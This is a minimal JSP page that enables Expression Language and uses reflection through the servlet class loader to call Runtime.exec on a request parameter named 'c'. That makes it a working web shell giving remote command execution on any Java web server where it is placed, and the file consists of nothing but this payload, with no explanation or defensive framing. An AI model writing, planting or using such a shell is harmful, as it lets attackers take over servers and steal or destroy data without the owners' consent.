<%@ page isELIgnored="false" %>
${pageContext.request.getSession().getServletContext().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(param.c)}
